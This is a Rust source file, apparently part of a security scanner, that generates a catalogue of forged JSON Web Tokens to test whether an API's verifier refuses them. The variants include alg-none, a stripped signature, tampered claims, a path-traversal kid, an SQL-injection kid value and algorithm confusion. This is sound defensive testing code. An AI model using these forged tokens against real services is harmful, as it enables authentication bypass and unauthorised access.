//! The JWT attack catalogue: tokens derived from a test principal's own JWT that a correct verifier
//! refuses. Built with base64 and, for the signed ones, aws-lc-rs HMAC; nothing here verifies tokens.

use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use base64::Engine;
use serde_json::{json, Value};

/// One forged token and what a server that accepts it gets wrong.
#[derive(Debug, Clone)]
pub struct Attack {
    pub name: &'static str,
    pub token: String,
    pub flaw: &'static str,
}

/// The header and claims of a compact JWT (`None` if it is not one).
pub fn decode(token: &str) -> Option<(Value, Value)> {
    let mut parts = token.split('.');
    let (h, c, _s) = (parts.next()?, parts.next()?, parts.next()?);
    if parts.next().is_some() {
        return None;
    }
    let header: Value = serde_json::from_slice(&URL_SAFE_NO_PAD.decode(h).ok()?).ok()?;
    let claims: Value = serde_json::from_slice(&URL_SAFE_NO_PAD.decode(c).ok()?).ok()?;
    (header.is_object() && claims.is_object()).then_some((header, claims))
}

fn b64(v: &Value) -> String {
    URL_SAFE_NO_PAD.encode(v.to_string().as_bytes())
}

fn hs256(header: &Value, claims: &Value, key: &[u8]) -> String {
    let input = format!("{}.{}", b64(header), b64(claims));
    let k = aws_lc_rs::hmac::Key::new(aws_lc_rs::hmac::HMAC_SHA256, key);
    format!("{input}.{}", URL_SAFE_NO_PAD.encode(aws_lc_rs::hmac::sign(&k, input.as_bytes()).as_ref()))
}

/// The catalogue for `token`; `public_key`: the API's public key (PEM bytes), for algorithm confusion.
pub fn attacks(token: &str, public_key: Option<&[u8]>, now: u64) -> Vec<Attack> {
    let Some((header, claims)) = decode(token) else { return Vec::new() };
    let mut signature_parts = token.splitn(3, '.');
    let (h, c) = (signature_parts.next().unwrap_or(""), signature_parts.next().unwrap_or(""));
    let mut out = Vec::new();
    for alg in ["none", "None", "NONE"] {
        let mut hd = header.clone();
        hd["alg"] = json!(alg);
        out.push(Attack {
            name: if alg == "none" { "alg-none" } else { "alg-none-case" },
            token: format!("{}.{}.", b64(&hd), c),
            flaw: "accepts an unsigned token with `alg: none`",
        });
        if alg == "None" {
            break;
        }
    }
    out.push(Attack {
        name: "signature-stripped",
        token: format!("{h}.{c}."),
        flaw: "accepts a token with its signature removed",
    });
    let mut tampered = claims.clone();
    tampered["pcs_scan"] = json!(true);
    let original_sig = token.rsplit('.').next().unwrap_or("");
    out.push(Attack {
        name: "tampered-claims",
        token: format!("{h}.{}.{original_sig}", b64(&tampered)),
        flaw: "does not verify the signature (claims changed, signature kept)",
    });
    let mut expired = claims.clone();
    expired["exp"] = json!(now.saturating_sub(86_400));
    expired["iat"] = json!(now.saturating_sub(90_000));
    out.push(Attack {
        name: "expired",
        token: format!("{h}.{}.{original_sig}", b64(&expired)),
        flaw: "accepts an expired token (whose claims were also changed: the signature is not checked)",
    });
    let mut aud = claims.clone();
    aud["aud"] = json!("https://pcs-scan.invalid/other-audience");
    out.push(Attack {
        name: "wrong-audience",
        token: format!("{h}.{}.{original_sig}", b64(&aud)),
        flaw: "accepts a token for another audience (whose claims were also changed)",
    });
    let mut hd = header.clone();
    hd["alg"] = json!("HS256");
    hd["kid"] = json!("../../../../../../dev/null");
    out.push(Attack {
        name: "kid-path-traversal",
        token: hs256(&hd, &claims, b""),
        flaw: "reads the key from a file named by `kid` (HS256 over /dev/null's empty key)",
    });
    let mut hd = header.clone();
    hd["alg"] = json!("HS256");
    hd["kid"] = json!("x' UNION SELECT 'pcs-scan-key'-- ");
    out.push(Attack {
        name: "kid-injection",
        token: hs256(&hd, &claims, b"pcs-scan-key"),
        flaw: "looks the key up with `kid` in a query (HS256 with an injected key)",
    });
    let mut hd = header.clone();
    hd["alg"] = json!("HS256");
    out.push(Attack {
        name: "hs256-empty-key",
        token: hs256(&hd, &claims, b""),
        flaw: "accepts HS256 with an empty secret",
    });
    if let Some(pk) = public_key {
        let mut hd = header.clone();
        hd["alg"] = json!("HS256");
        out.push(Attack {
            name: "alg-confusion",
            token: hs256(&hd, &claims, pk),
            flaw: "algorithm confusion: accepts HS256 signed with its RSA/EC public key as the secret",
        });
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn catalogue_from_a_token() {
        let h = b64(&json!({"alg":"RS256","typ":"JWT","kid":"k1"}));
        let c = b64(&json!({"sub":"alice","exp": 4_000_000_000u64}));
        let token = format!("{h}.{c}.c2ln");
        let all = attacks(&token, Some(b"PEM"), 1_700_000_000);
        let none = all.iter().find(|a| a.name == "alg-none").unwrap();
        let (hd, cl) = decode(&none.token).unwrap();
        assert_eq!((hd["alg"].as_str(), cl["sub"].as_str()), (Some("none"), Some("alice")));
        assert!(none.token.ends_with('.'));
        let exp = all.iter().find(|a| a.name == "expired").unwrap();
        assert!(decode(&exp.token).unwrap().1["exp"].as_u64().unwrap() < 1_700_000_000);
        assert!(all.iter().any(|a| a.name == "alg-confusion"));
        assert!(attacks("not-a-jwt", None, 0).is_empty());
    }
}
